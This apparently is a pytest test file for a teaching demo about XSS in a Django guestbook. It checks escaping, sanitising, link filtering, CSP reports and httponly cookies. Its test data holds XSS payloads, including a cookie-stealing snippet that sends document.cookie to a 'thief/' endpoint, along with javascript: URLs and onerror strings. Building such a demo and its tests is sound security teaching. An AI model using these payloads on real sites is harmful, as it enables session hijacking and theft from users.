"""The wall: what each template makes of what guests wrote, and what the thief gets."""

from __future__ import annotations

import json
import re

import pytest
from bs4 import BeautifulSoup
from django.test import Client

from lessons.security.xss_sql_injection.demo.markup import sanitised, web_address
from lessons.security.xss_sql_injection.demo.models import Comment, Loot, ReadersPass, Report
from lessons.security.xss_sql_injection.demo.payloads import ENTRIES
from lessons.security.xss_sql_injection.tests.shop import frame, post, switch


@pytest.fixture
def visitor(visit):
    return visit("xss_sql_injection")


def wall(visitor) -> BeautifulSoup:
    return BeautifulSoup(Client().get(frame(visitor)).text, "html.parser")


def live(soup: BeautifulSoup) -> list[str]:
    """Everything in the page that a browser would run, or send somewhere, and that is not the shop's."""
    found = [str(script) for script in soup("script") if not script.get("nonce") and script.get("id") is None]
    found += [str(tag) for tag in soup(True) if any(name.startswith("on") for name in tag.attrs)]
    found += [str(tag) for tag in soup("a") if not re.match(r"https?://", tag.get("href", "https://"))]
    return found + [str(form) for form in soup("form")]


@pytest.mark.parametrize("title", ["A script", "An image that fails", "A homepage", "A form"])
def test_as_they_came_every_entry_is_part_of_the_page(visitor, title):
    switch(visitor, rendering="open")
    post(visitor, title)
    assert len(live(wall(visitor))) == 1


def test_a_name_becomes_code_of_the_shops_own_script(visitor):
    switch(visitor, rendering="open", policy="scripts")
    post(visitor, "A name")
    script = wall(visitor).find_all("script")[-1]
    assert script["nonce"]
    assert 'const newest = ""+(new Image().src=\'thief/?\'+document.cookie)+"";' in script.string


def test_escaping_alone_forgets_the_address_and_the_script(visitor):
    switch(visitor, rendering="escaped")
    for entry in ENTRIES:
        post(visitor, entry.title)
    assert [tag.startswith('<a href="javascript:') for tag in live(wall(visitor))] == [True]
    visitor.post("sign/", {"name": "Maeve O'Brien", "text": "Me again"})
    assert 'const newest = "Maeve O&#x27;Brien";' in wall(visitor).find_all("script")[-1].string


def test_right_for_each_place_nothing_runs_and_everything_can_be_read(visitor):
    switch(visitor, rendering="fixed")
    for entry in ENTRIES:
        post(visitor, entry.title)
    visitor.post("sign/", {"name": "</script><script>alert(1)</script>", "text": "I like tea"})
    soup = wall(visitor)
    assert live(soup) == []
    assert json.loads(soup.find(id="newest-name").string) == "</script><script>alert(1)</script>"
    assert soup.find("b").text == "Lovely"
    assert "Tom & Ada's favourite. 1 < 2!" in soup.text
    assert soup.find("a", href="https://maeve.example/").text == "Maeve O'Brien"


@pytest.mark.parametrize(
    ("address", "kept"),
    [
        ("https://maeve.example/a?b=c", "https://maeve.example/a?b=c"),
        (" http://maeve.example ", "http://maeve.example"),
        ("javascript:alert(1)", ""),
        ("JaVaScRiPt:alert(1)", ""),
        ("java\tscript:alert(1)", ""),
        ("data:text/html,<script>alert(1)</script>", ""),
        ("//maeve.example", ""),
        ("https:maeve", ""),
        ("http://[", ""),
        ("", ""),
    ],
)
def test_only_web_addresses_become_links(address, kept):
    assert web_address(address) == kept


@pytest.mark.parametrize(
    ("text", "cleaned"),
    [
        ("<b>bold</b> & <u>plain</u>", "<b>bold</b> &amp; plain"),
        ("<b onclick=alert(1)>x", "<b>x</b>"),
        ("<svg><script>alert(1)</script></svg>", ""),
        ('<a href="javascript:alert(1)">x</a>', '<a rel="noopener noreferrer">x</a>'),
        ("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", ""),
        ("1 < 2", "1 &lt; 2"),
    ],
)
def test_some_markup_and_none_of_the_rest(text, cleaned):
    assert sanitised(text) == cleaned


def test_the_pass_is_a_cookie_of_this_browser_and_the_switch_changes_it(visitor):
    first = visitor.get("").cookies["readers_pass"]
    assert not first["httponly"] and first["samesite"] == "Lax" and first["path"] == visitor.demo.prefix
    switch(visitor, httponly="on")
    second = visitor.get("").cookies["readers_pass"]
    assert second["httponly"] and second.value == first.value
    with visitor.world():
        assert ReadersPass.objects.count() == 1


def test_the_thief_notes_what_comes_and_knows_whose_it_is(visitor):
    key = visitor.get("").cookies["readers_pass"].value
    Client().get(f"{frame(visitor, 'thief/')}?readers_pass%3D{key}")
    Client().get(f"{frame(visitor, 'thief/')}?pin=4711")
    page = visitor.get("desk/").text
    assert f"readers_pass={key}" in page and page.count("opens Mira’s account") == 1
    assert visitor.traces[0]["url_name"] == "home" and visitor.traces[1]["url_name"] == "thief"


def test_neither_desk_nor_book_grows_without_end(visitor):
    for number in range(35):
        Client().get(f"{frame(visitor, 'thief/')}?{number}{'x' * 900}")
        visitor.post("sign/", {"name": "n", "text": str(number)})
    with visitor.world():
        assert Loot.objects.count() == Comment.objects.count() == 30
        assert max(len(loot.text) for loot in Loot.objects.all()) == 500


def test_a_browsers_report_is_noted(visitor):
    said = {"csp-report": {"effective-directive": "script-src-elem", "blocked-uri": "inline"}}
    answer = Client().post(frame(visitor, "report/"), json.dumps(said), content_type="application/csp-report")
    assert answer.status_code == 204
    with visitor.world():
        assert str(Report.objects.get()) == "script-src-elem: inline"


@pytest.mark.parametrize(
    "body", ["", "[]", "{", '{"csp-report": 1}', '{"csp-report": {"blocked-uri": "x"}}', "\xff"]
)
def test_what_is_no_report_is_refused(visitor, body):
    answer = Client().post(frame(visitor, "report/"), body, content_type="application/csp-report")
    assert answer.status_code == 400


@pytest.mark.parametrize("data", [{"name": "", "text": "x"}, {"name": "n"}, {"name": "n" * 301, "text": "x"}])
def test_an_entry_that_is_none_is_refused(visitor, data):
    assert "An entry has a name and a text" in visitor.post("sign/", data, follow=True).text


def test_a_switch_that_there_is_not_is_refused(visitor):
    assert visitor.post("switches/", {"rendering": "sideways", "policy": "none"}).status_code == 400
    assert visitor.post("search/switches/", {"asking": "nicely"}).status_code == 400


def test_tidying_leaves_the_first_two(visitor):
    post(visitor, "A script")
    visitor.post("tidy/")
    with visitor.world():
        assert set(Comment.objects.values_list("name", flat=True)) == {"Maeve O'Brien", "Jun"}
